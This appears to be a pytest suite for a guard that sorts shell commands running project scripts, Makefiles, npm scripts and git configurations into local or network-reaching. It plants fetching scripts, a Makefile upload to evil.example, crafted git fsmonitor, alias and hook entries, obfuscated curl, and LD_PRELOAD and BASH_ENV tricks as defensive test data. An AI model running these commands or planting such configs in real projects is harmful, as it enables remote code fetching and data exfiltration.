"""Attack table, project scripts: a command that runs a file of the project (``./x``,
``bash x.sh``, ``python x.py``, ``make``, ``npm run``, ``cargo run``) is as local as what that
file does. The guard reads the file with the same reader; a file it cannot read (missing,
binary, outside the project, written by the same line) counts as external. One row per
attempt; the benign rows show that ordinary project scripts stay local."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from doubles.one_pass import assert_read_in_one_pass
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from paicli_tui.core.contracts.shell import classify_command

FETCH_SH = "#!/bin/bash\nset -e\ncurl -s https://evil.example/payload\n"
FILES: dict[str, str] = {
    # benign scripts: comments, help text in a here-document, a loop, functions
    "build.sh": ("#!/bin/sh\nset -eu\n# nothing is fetched; docs: https://docs.example.com\n"
                 "usage() {\n  cat <<EOF\nUsage: build.sh [--fast]\nSee https://example.com\n"
                 "EOF\n}\nfor f in src/*.txt; do\n  cp \"$f\" out/\ndone\nmkdir -p out\n"
                 "echo built\n"),
    "tools/gen.py": "import json\nimport os\n\nfrom helpers import fmt\n\nprint(fmt(1))\n",
    "tools/helpers.py": "def fmt(n):\n    return f'{n:03d}'\n",
    "tools/run": "#!/usr/bin/env python3\nprint('local')\n",
    "self.sh": "#!/bin/sh\n[ -n \"$DONE\" ] || DONE=1 ./self.sh\necho ok\n",
    "mypkg/__init__.py": "",
    "mypkg/__main__.py": "print('cli')\n",
    "Makefile": ("PYTHON ?= python3\nSRC := $(wildcard src/*.c)\n.PHONY: all test lint deploy"
                 " sync remote sub inline unknown\n\nall: app\n\napp: main.c\n\t$(CC) -o $@ "
                 "$<\n\ntest: app\n\t@$(PYTHON) -m pytest -q\n\nlint:\n\t-ruff check .\n\n"
                 "deploy:\n\tcurl -T app https://evil.example/upload\n\nsync: fetchdeps\n"
                 "\techo synced\n\nfetchdeps:\n\twget -q https://evil.example/deps.tgz\n\n"
                 "remote:\n\t./fetch.sh\n\nsub:\n\t$(MAKE) -C sub\n\ninline: ; curl https://e"
                 "\n\nunknown:\n\t$(NOT_SET_ANYWHERE) data.txt\n\nlong: \\\n  app\n\tcurl \\\n"
                 "\t  https://evil.example/x\n"),
    "shellvar.mk": "V := $(shell curl -s https://evil.example/v)\nall:\n\techo $(V)\n",
    "sub/Makefile": "all:\n\tbash ../fetch.sh\n",
    "sub/build.sh": FETCH_SH,
    "package.json": json.dumps({"scripts": {
        "test": "jest --ci", "build": "tsc -p . && node scripts/copy.js", "lint": "eslint .",
        "fetch": "node scripts/fetch.js", "pretest": "echo before", "deploy": "./fetch.sh",
        "start": "node server.js"}}),
    "scripts/copy.js": "const fs = require('fs');\nconst { join } = require('./paths');\n"
                       "fs.copyFileSync(join('a'), join('b'));\nconsole.log(`copied ${1}`);\n",
    "scripts/paths.js": "exports.join = (p) => 'dist/' + p;\n",
    "scripts/fetch.js": "const https = require('https');\nhttps.get('https://e', r => r);\n",
    "server.js": "const lib = require('./lib/serve');\nlib.go();\n",
    "lib/serve.js": "const net = require('net');\nexports.go = () => net.connect(80, 'e');\n",
    "web/package.json": json.dumps({"scripts": {"pretest": "curl -s https://e", "test": "jest"}}),
    "fetch.sh": FETCH_SH,
    "sneaky.sh": "#!/bin/sh\na=cu\nb=rl\n$a$b https://evil.example\n",
    "sources_fetch.sh": "#!/bin/sh\n. ./fetch.sh\n",
    "fetch.py": "import urllib.request\nprint(urllib.request.urlopen('https://e').read())\n",
    "tool.py": "from netlib import get\n\nprint(get())\n",
    "netlib.py": "import socket\n\ndef get():\n    return socket.create_connection(('e', 80))\n",
    "evilpkg/__init__.py": "",
    "evilpkg/__main__.py": "import requests\nprint(requests.get('https://e').text)\n",
    "tools/pull": "#!/usr/bin/env python3\nimport http.client\n",
    "tools/wrapped": "#!/usr/bin/env -S uv run --script\nprint('hi')\n",
    "blob.b64": "aW1wb3J0IHVybGxpYg==\n",
    "gen.sh": "#!/bin/sh\necho harmless\n",
    "crate/Cargo.toml": "[package]\nname = \"c\"\nversion = \"0.1.0\"\n",
    "crate/src/main.rs": "mod util;\nfn main() { println!(\"{}\", util::two()); }\n",
    "crate/src/util.rs": "pub fn two() -> u8 { 2 }\n",
    "netcrate/Cargo.toml": "[package]\nname = \"n\"\nversion = \"0.1.0\"\n",
    "netcrate/src/main.rs": "mod net;\nfn main() { net::get(); }\n",
    "netcrate/src/net.rs": "pub fn get() { let _ = reqwest::blocking::get(\"https://e\"); }\n",
    "gomod/go.mod": "module example.com/g\n\ngo 1.22\n",
    "gomod/main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(1) }\n",
    "gonet/go.mod": "module example.com/n\n\ngo 1.22\n",
    "gonet/main.go": "package main\n\nimport \"net/http\"\n\nfunc main() { http.Get(\"x\") }\n",
    # a repository whose own configuration and hooks run only local programs
    ".git/config": ("[core]\n\tbare = false\n\tpager = less -R\n[filter \"lfs\"]\n"
                    "\tsmudge = git-lfs smudge -- %f\n[alias]\n\tst = status\n"),
    ".git/hooks/pre-commit": "#!/bin/sh\nexec ruff check .\n",
    ".git/hooks/pre-push.sample": "#!/bin/sh\ncurl https://e\n",
    # a crafted repository: git itself would run what the configuration names
    "evilrepo/.git/config": "[core]\n\tfsmonitor = \"curl -s https://evil.example/f\"\n",
    "evilalias/.git/config": ("[alias]\n\tup = !wget -qO- https://evil.example/u\n"
                              "\tsy = fetch --all\n"),
    "evilhooks/.git/config": "[core]\n\tbare = false\n",
    "evilhooks/.git/hooks/post-checkout": "#!/bin/sh\ncurl -s https://evil.example/h\n",
    "evilinclude/.git/config": "[include]\n\tpath = ../shared.gitconfig\n",
    "rc/package.json": json.dumps({"scripts": {"build": "tsc"}}),
    "rc/.npmrc": "script-shell=./fetch.sh\n",
    "shellmake/Makefile": "SHELL := ../fetch.sh\nall:\n\techo hi\n",
    "pathmake/Makefile": "export PATH := ./bin:$(PATH)\nall:\n\tls\n",
}

LOCAL = {
    "bash_benign_script": "bash build.sh",
    "dot_slash_benign_script": "./build.sh --fast",
    "sh_benign_script_in_a_list": "mkdir -p out && sh build.sh; echo done",
    "python_script_importing_project_module": "python3 tools/gen.py",
    "python_script_after_cd": "cd tools && python3 gen.py",
    "shebang_python_without_extension": "./tools/run",
    "script_that_runs_itself": "./self.sh",
    "python_m_project_package": "python -m mypkg",
    "python_m_installed_tool": "python -m pytest -q",
    "make_default_goal": "make",
    "make_test_target": "make test",
    "make_lint_with_flags": "make -j4 -s lint",
    "npm_test_with_pretest": "npm test",
    "npm_run_build_following_requires": "npm run build",
    "yarn_script_by_name": "yarn lint",
    "yarn_installed_program": "yarn jest --watch=false",
    "uv_run_installed_tool": "uv run pytest",
    "uv_run_project_script": "uv run python tools/gen.py",
    "cargo_run_plain_crate": "cd crate && cargo run --release",
    "go_run_plain_module": "cd gomod && go run .",
    "subshell_cd_does_not_leak": "(cd sub && ls); bash build.sh",
    "cat_project_file_into_python": "cat tools/helpers.py | python3",
    "python_reads_project_file_on_stdin": "python3 < tools/helpers.py",
    "git_status_with_a_plain_config": "git status --short",
    "git_alias_to_a_local_subcommand": "git st",
    "git_commit_with_a_local_hook": "git commit -qm 'fix: typo'",
    "git_option_that_is_not_a_command": "git -c color.ui=always log --oneline",
    "compiler_chosen_by_name": "CC=clang make",
    "path_gains_a_folder_of_the_person": 'export PATH="$HOME/.cargo/bin:$PATH"; cargo build',
    "pythonpath_outside_the_project": "PYTHONPATH=/opt/lib python3 tools/gen.py",
    "python_c_importing_a_plain_project_module": "cd tools && python3 -c 'import helpers'",
    "trap_with_local_cleanup": "trap 'rm -rf out' EXIT; make",
    "alias_of_a_local_command": "alias ll='ls -la'",
}
EXTERNAL = {
    "bash_fetching_script": ("bash fetch.sh", "fetch.sh"),
    "dot_slash_fetching_script": ("./fetch.sh", "curl"),
    "script_building_the_program_name": ("sh sneaky.sh", "cannot be known"),
    "source_a_fetching_script": ("source fetch.sh", "curl"),
    "script_sourcing_a_fetching_script": ("./sources_fetch.sh", "curl"),
    "python_script_using_urllib": ("python3 fetch.py", "fetch.py"),
    "python_script_importing_a_network_module": ("python tool.py", "netlib.py"),
    "python_m_project_package_with_requests": ("python3 -m evilpkg", "__main__.py"),
    "shebang_python_with_http_client": ("./tools/pull", "tools/pull"),
    "shebang_of_an_unread_program": ("./tools/wrapped", "uv"),
    "compiled_program": ("./bin/tool", "compiled program"),
    "missing_script": ("bash missing.sh", "does not exist"),
    "script_outside_the_project": ("bash ../outside.sh", "outside the project"),
    "symlink_to_outside_script": ("bash link.sh", "outside the project"),
    "line_writes_the_script_it_runs": ("echo 'curl https://e' > gen.sh && bash gen.sh",
                                       "writes gen.sh"),
    "line_copies_over_the_script": ("cp fetch.sh gen.sh; ./gen.sh", "writes ./gen.sh"),
    "python_c_rewrites_the_script_first": (
        "python3 -c \"open('build.sh', 'w').write('cu' + 'rl e')\"; bash build.sh; "
        "python3 -c \"open('build.sh', 'w').write('echo built')\"", "changes the project's"),
    "node_e_rewrites_the_script_first": (
        "node -e \"require('fs').writeFileSync('gen.sh', 'cu' + 'rl e')\" && sh gen.sh",
        "changes the project's"),
    "checkout_before_running_a_script": ("git checkout attacker && ./build.sh",
                                         "changes the project's files"),
    "cd_into_folder_with_fetching_script": ("cd sub && ./build.sh", "curl"),
    "cat_fetching_script_into_python": ("cat fetch.py | python3", "fetch.py"),
    "fetching_script_on_stdin": ("python3 < fetch.py", "fetch.py"),
    "decoded_code_piped_to_python": ("base64 -d blob.b64 | python3", "base64"),
    "xargs_feeds_a_script_name_to_bash": ("echo fetch.sh | xargs bash", "xargs"),
    "bash_c_runs_fetching_script": ("bash -c ./fetch.sh", "curl"),
    "uv_run_fetching_script": ("uv run python fetch.py", "fetch.py"),
    "make_target_with_curl": ("make deploy", "curl"),
    "make_target_through_a_prerequisite": ("make sync", "wget"),
    "make_target_runs_a_fetching_script": ("make remote", "curl"),
    "make_recursive_into_subfolder": ("make sub", "curl"),
    "make_inline_recipe": ("make inline", "curl"),
    "make_program_that_cannot_be_known": ("make unknown", "cannot be known"),
    "make_continued_recipe_line": ("make long", "remote address"),
    "make_shell_function_at_read_time": ("make -f shellvar.mk", "curl"),
    "make_program_overridden_on_command_line": ("make test PYTHON=curl", "curl"),
    "make_without_a_makefile": ("make -C crate", "no Makefile"),
    "npm_run_fetching_script": ("npm run fetch", "fetch.js"),
    "npm_start_server_requiring_net": ("npm start", "serve.js"),
    "npm_run_script_that_runs_a_fetching_script": ("npm run deploy", "curl"),
    "npm_pretest_fetches": ("cd web && npm test", "curl"),
    "npm_run_missing_script": ("npm run nothing-here", "no script"),
    "cargo_run_crate_using_reqwest": ("cd netcrate && cargo run", "net.rs"),
    "go_run_module_using_net_http": ("go run ./gonet", "main.go"),
    "script_run_from_an_unknown_folder": ("cd \"$DIR\" && ./build.sh", "directory"),
    "git_fsmonitor_in_a_crafted_repository": ("cd evilrepo && git status", "fsmonitor"),
    "git_alias_running_wget": ("git -C evilalias up", "wget"),
    "git_alias_to_a_fetch": ("cd evilalias && git sy", "fetch"),
    "git_hook_fired_by_checkout": ("cd evilhooks && git checkout -b x", "post-checkout"),
    "git_config_including_another_file": ("git -C evilinclude status", "includes"),
    "git_c_pager_command": ("git -c core.pager='curl https://e' log", "curl"),
    "git_c_alias_command": ("git -c alias.x='!curl https://e' x", "curl"),
    "git_editor_set_to_a_fetching_script": ("EDITOR=./fetch.sh git commit", "curl"),
    "path_puts_a_project_folder_first": ("PATH=./bin:$PATH make", "PATH"),
    "export_path_from_the_working_folder": ('export PATH="$PWD/evil:$PATH"; ls', "PATH"),
    "bash_env_runs_a_script_first": ("BASH_ENV=./fetch.sh bash build.sh", "BASH_ENV"),
    "ld_preload": ("LD_PRELOAD=./hook.so ls", "LD_PRELOAD"),
    "env_sets_node_options": ("env NODE_OPTIONS='--require ./x.js' npm test", "NODE_OPTIONS"),
    "env_split_string": ("env -S 'curl https://e'", "curl"),
    "alias_then_use": ("alias ls='curl https://e'; ls", "curl"),
    "trap_runs_curl": ("trap 'curl https://e' EXIT", "curl"),
    "watch_runs_curl": ("watch -n 1 'curl https://e'", "curl"),
    "su_c_curl": ("su -c 'curl https://e' bob", "curl"),
    "flock_c_curl": ("flock /tmp/lock -c 'curl https://e'", "curl"),
    "hyperfine_times_curl": ("hyperfine 'curl https://e'", "curl"),
    "parallel_runs_wget": ("parallel wget ::: a b", "wget"),
    "python_c_importing_a_network_project_module": ("python3 -c 'import netlib; netlib.get()'",
                                                    "netlib.py"),
    "node_e_requiring_a_network_project_module": ("node -e \"require('./lib/serve').go()\"",
                                                  "serve.js"),
    "npmrc_chooses_the_script_shell": ("cd rc && npm run build", "script-shell"),
    "makefile_chooses_its_shell": ("make -C shellmake", "curl"),
    "makefile_puts_a_project_folder_on_path": ("make -C pathmake", "PATH"),
    "compiler_is_a_fetching_script": ("CC=./fetch.sh make", "curl"),
}


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("scripts")
    root = base / "project"
    for name, text in FILES.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        if name.endswith(".sh") or name.startswith("tools/") or "/hooks/" in name:
            path.chmod(0o755)
    (root / "bin").mkdir()
    (root / "bin/tool").write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(64))
    (base / "outside.sh").write_text("echo outside\n")
    os.symlink(base / "outside.sh", root / "link.sh")
    return root


@pytest.mark.parametrize("name", sorted(LOCAL))
def test_project_script_that_stays_local(project: Path, name: str) -> None:
    verdict = classify_command(LOCAL[name], project)
    assert not verdict.external, verdict.reason


@pytest.mark.parametrize("name", sorted(EXTERNAL))
def test_project_script_that_may_fetch_counts_as_external(project: Path, name: str) -> None:
    command, says = EXTERNAL[name]
    verdict = classify_command(command, project)
    assert verdict.external
    assert says in verdict.reason, verdict.reason


@pytest.mark.parametrize("command", ["bash build.sh", "make test", "npm test", "./tools/run",
                                     "python3 tools/gen.py"])
def test_without_a_project_a_script_cannot_be_shown_local(command: str) -> None:
    verdict = classify_command(command)
    assert verdict.external and "no project" in verdict.reason


def test_script_read_budget_is_bounded(tmp_path: Path) -> None:
    """A script too large to read, and a chain of scripts beyond the nesting limit, both
    count as external (the reader never reads without a bound)."""
    (tmp_path / "big.sh").write_text("echo x\n" * 100_000)
    assert "too large" in classify_command("bash big.sh", tmp_path).reason
    for index in range(12):
        (tmp_path / f"s{index}.sh").write_text(f"bash s{index + 1}.sh\n")
    (tmp_path / "s12.sh").write_text("echo end\n")
    assert "nested too deeply" in classify_command("bash s0.sh", tmp_path).reason


# A Makefile line of a word, a long run of blanks and another word (no colon) made the rule
# pattern try every split of the blanks: 20,000 took 3.8 s, a line at the 512 KB budget most
# of an hour, during which `make test` waited for its verdict (the approval dialog with it).
# Rule lines are read in one pass.
def test_a_makefile_line_of_blanks_is_read_in_one_pass(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("test:\n\techo ok\n" + "a" + " " * 500_000 + "b\n")

    def classify() -> None:
        assert not classify_command("make test", tmp_path).external

    assert_read_in_one_pass(classify)


@hypothesis_settings(max_examples=500, deadline=None,
                     suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from([" ", "\t", ":", "=", "#", "a", "b", ";", "|", "%"]),
                min_size=1, max_size=14).map("".join))
def test_a_rule_line_is_read_as_the_pattern_read_it(line: str) -> None:
    import re

    from paicli_tui.core.contracts.shell_make import _rule

    pattern = re.compile(r"^([^:=#\t][^:=#]*?)\s*(::?)(?!=)\s*(.*)$")
    match = pattern.match(line)
    assert _rule(line) == (match.groups() if match else None)


# A script line of `from`, a long run of dots and no `import` made the import pattern try
# every split of the dots between its two parts: 20,000 took 5 s, a file at the 512 KB budget
# most of an hour, during which `python x.py` waited for its verdict.
# The same with blanks: `from`, a long run of blanks and a word (no `import`) split the blanks
# between the two separators around an empty module every way (8,000 took 0.13 s, the file
# budget's half a million most of ten minutes).
@pytest.mark.parametrize("planted", ["from " + "." * 500_000 + "!", "from" + " " * 500_000 + "x",
                                     "from" + " \t" * 250_000 + "x"],
                         ids=["dots", "blanks", "blanks-and-tabs"])
def test_an_import_line_of_dots_is_read_in_one_pass(planted: str, tmp_path: Path) -> None:
    (tmp_path / "x.py").write_text("print('ok')\n" + planted + "\n")
    assert_read_in_one_pass(lambda: classify_command("python3 x.py", tmp_path))


@hypothesis_settings(max_examples=500, deadline=None,
                     suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(["from ", "import ", ".", "a", "b", " ", "\t", "\n", ",",
                                 "(", ")", "*", "!", "from", "import"]),
               max_size=16).map("".join))
def test_import_lines_are_read_as_the_pattern_read_them(text: str) -> None:
    import re

    from paicli_tui.core.contracts.shell_files import _PY_IMPORT

    before = re.compile(r"^[ \t]*(?:from[ \t]+(\.*[\w.]*)[ \t]+import[ \t]+([\w., \t()*]+)"
                        r"|import[ \t]+([\w., \t]+))", re.MULTILINE)
    # but `from` + blanks + `import` with no module at all (a SyntaxError in Python, and the
    # case whose blanks were split every way): that is no import now
    assert ([m.groups() for m in _PY_IMPORT.finditer(text)]
            == [m.groups() for m in before.finditer(text) if m.group(1) != ""])


# Two more patterns of the guard tried every split of a run: a planted .npmrc of blank lines
# (each line start took all the blank lines after it: 12,000 took 12 s) held `npm test`'s
# verdict, a script holding a long run of word characters (`\w+://` tried every start in it:
# 12,000 underscores 2 s) held `python x.py`'s, each for hours at the 512 KB budget.
@pytest.mark.parametrize(("files", "command"), [
    ({"package.json": '{"scripts": {"test": "echo ok"}}', ".npmrc": "\n" * 500_000},
     "npm test"),
    ({"x.py": 'x = "' + "_" * 500_000 + '"\nprint(1)\n'}, "python3 x.py"),
], ids=["npmrc-of-blank-lines", "script-of-underscores"])
def test_a_planted_run_is_read_in_one_pass(files: dict, command: str, tmp_path: Path) -> None:
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    assert_read_in_one_pass(lambda: classify_command(command, tmp_path))


@hypothesis_settings(max_examples=500, deadline=None,
                     suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(["\n", " ", "\t", "shell", "yarnPath", "=", ":", "a", "_", "x",
                                 "://", "http", "#"]), max_size=12).map("".join))
def test_the_guard_patterns_find_what_they_found(text: str) -> None:
    import re

    from paicli_tui.core.contracts.shell_files import _NPM_RUNS
    from paicli_tui.core.contracts.shell_programs import NETWORK_CODE

    npm = re.compile(r"(?im)^\s*(script-shell|node-options|onload-script|shell|"
                     r"yarn-path|yarnPath)\s*[=:]")
    assert bool(_NPM_RUNS.search(text)) == bool(npm.search(text))
    before = re.compile(NETWORK_CODE.pattern.replace(r"|\b\w+://", r"|\w+://"))
    assert before.pattern != NETWORK_CODE.pattern
    assert bool(NETWORK_CODE.search(text)) == bool(before.search(text))
